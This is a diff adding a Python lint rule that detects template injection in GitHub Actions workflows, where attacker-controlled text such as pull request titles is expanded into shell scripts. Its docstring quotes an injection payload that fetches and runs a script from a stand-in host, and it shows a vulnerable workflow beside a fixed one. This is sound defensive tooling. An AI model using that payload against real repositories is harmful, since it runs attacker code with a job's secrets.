@@ -1,0 +1,88 @@
+from collections.abc import Iterator
+
+from deploylint.context import Context
+from deploylint.expressions import attacker_controlled
+from deploylint.findings import Confidence, Finding, Severity
+from deploylint.models.workflow import Job, Step, Workflow
+from deploylint.registry import Kind, rule
+from deploylint.rules.workflow._util import env_is_tainted, script_sinks
+
+Path = tuple[str, ...]
+
+
+def _why(wf: Workflow, job: Job, step: Step, path: Path) -> tuple[str, Confidence] | None:
+    if attacker_controlled(path):
+        return "is attacker-controlled", Confidence.HIGH
+    if path[0] == "env" and len(path) == 2 and env_is_tainted(wf, job, step, path[1]):
+        return "holds attacker-controlled text (see its `env:` definition)", Confidence.HIGH
+    if path[0] == "matrix" and len(path) >= 2:
+        vals = job.matrix_values(path[1])
+        dyn = [s for k, s in job.matrix_dynamic if k in (path[1], "*")]
+        for s in (*vals, *dyn):
+            if any(attacker_controlled(p) for p, _n, _e in s.flowing()):
+                return "is computed from attacker-controlled text", Confidence.HIGH
+    if wf.is_action and path[0] == "inputs":
+        return "is set by the action's caller", Confidence.MEDIUM
+    return None
+
+
+@rule(
+    id="GHA012",
+    name="template-injection",
+    title="Attacker-controlled text is expanded into a script",
+    kind=(Kind.WORKFLOW, Kind.ACTION),
+    severity=Severity.ERROR,
+    tags=("security", "injection"),
+    security_severity=9.0,
+    aliases=("template-injection", "CKV_GHA_2"),
+)
+def template_injection(wf: Workflow, ctx: Context) -> Iterator[Finding]:
+    """## Why
+    `${{ }}` is replaced *before* the shell (or `actions/github-script`) sees the script, so a
+    pull request title such as `a"; curl evil.sh | sh; echo "` becomes code running with the
+    job's secrets. Pass the value through an environment variable and quote it:
+    `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.
+
+    Reported: contexts an outsider controls (issue, pull request, comment, review and discussion
+    titles and bodies, commit messages and authors, `github.head_ref`, head branch names and
+    labels, `client_payload`...), also through an `env:` variable or a matrix value built from
+    them, and `inputs.*` inside composite actions (set by the caller). Values that cannot carry
+    shell syntax are never reported: SHAs, numbers, ids, statuses (`steps.*.outcome`), URLs and
+    names set by the repository's owners, and results of comparisons or `contains()`.
+
+    ## Example
+        on: pull_request
+        jobs:
+          greet:
+            runs-on: ubuntu-latest
+            steps:
+              - run: echo "Thanks for ${{ github.event.pull_request.title }}"
+
+    ## Use instead
+        on: pull_request
+        jobs:
+          greet:
+            runs-on: ubuntu-latest
+            steps:
+              - run: echo "Thanks for $TITLE"
+                env:
+                  TITLE: ${{ github.event.pull_request.title }}
+
+    ## Differences from zizmor
+    zizmor also reports (at lower confidence) matrix values computed from any expression and
+    contexts of unknown origin such as `steps.*.outputs.*`; deploylint reports only values it can
+    trace to attacker-controlled text, or composite-action inputs.
+    """
+    for job in wf.jobs:
+        for step in job.steps:
+            for label, value in script_sinks(step):
+                for path, node, _e in value.flowing():
+                    got = _why(wf, job, step, path)
+                    if got is None:
+                        continue
+                    why, conf = got
+                    yield ctx.finding(
+                        value.node_span(node),
+                        f"`{value.value[node.start : node.end]}` {why} and is expanded into `{label}`; pass it through `env:`.",
+                        confidence=conf,
+                    )
